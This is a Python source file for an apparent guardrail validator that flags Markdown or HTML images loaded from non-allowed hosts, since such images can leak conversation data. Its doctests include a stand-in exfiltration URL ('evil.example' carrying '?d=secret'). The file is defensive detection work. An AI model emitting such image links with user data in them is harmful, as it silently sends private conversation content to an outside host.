"""markdown-images: a text that loads no images from unknown hosts."""

from __future__ import annotations

from railguard import FailResult, validator
from railguard_validators._safety.links import Link, links, target, under
from railguard_validators._safety.marking import Finding, masked, settled
from railguard_validators._wording import listed, shown


class MarkdownImages:
    """Loads no image from a host that is not in `hosts`, in Markdown or HTML: by `<img>`, `srcset`, a background or
    another URL of a style, a video's poster, or a frame or script. A program that shows the text requests the image
    from that host, and the URL can contain data from the conversation; so a remote image can leak data without a click.
    Images without a host (`a.png`) and embedded ones (`data:`) pass.

    hosts: the allowed hosts, including their subdomains; by default none.

    The fix replaces the image by its alternative text, or removes it if it has none.

    >>> markdown_images(["example.org"]).run("![Logo](https://img.example.org/logo.png) ![a](a.png)")
    >>> markdown_images().run("Done. ![x](https://evil.example/p.png?d=secret)").message
    'The text must load no pictures from other hosts; "https://evil.example/p.png?d=secret" is on "evil.example".'
    >>> markdown_images().run("Done. ![a chart](https://evil.example/p.png)").fix
    'Done. a chart'
    """

    __slots__ = ("_hosts", "prompt")

    def __init__(self, hosts: list[str] | None = None) -> None:
        for host in hosts or ():
            if not host or "/" in host or ":" in host:
                raise ValueError(f"{host!r} is no host; write it as 'example.org'")
        self._hosts = frozenset(host.lower().lstrip("*.") for host in hosts or ())
        self.prompt = f"pictures from {', '.join(hosts)} only" if hosts else "no pictures from other hosts"

    def __call__(self, value: str) -> FailResult | None:
        strange = self._strange(value)
        if not strange:
            return None
        link = strange[0]
        more = f", and {len(strange) - 1:,} more" if len(strange) > 1 else ""
        allowed = f"; allowed are {listed(sorted(self._hosts))}" if self._hosts else ""
        return FailResult(
            f"The text must load no pictures from other hosts; {shown(link.url, 100)} is on {shown(target(link.url).host)}"
            f"{more}{allowed}.",
            fix=masked(value, self._pictures, str),
            spans=[link.picture for link in strange if link.picture],
        )

    def _strange(self, text: str) -> list[Link]:
        found: dict[tuple[int, int, int], Link] = {}
        for link in links(text):
            if link.picture is not None:
                host = target(link.url).host
                if host and not under(host, self._hosts):
                    found.setdefault((link.start, link.end, link.picture[0]), link)
        return list(found.values())

    def _pictures(self, text: str) -> list[Finding]:
        return settled(Finding(*link.picture, link.label or "") for link in self._strange(text) if link.picture)


markdown_images = validator("markdown-images", subject="Safety")(MarkdownImages)
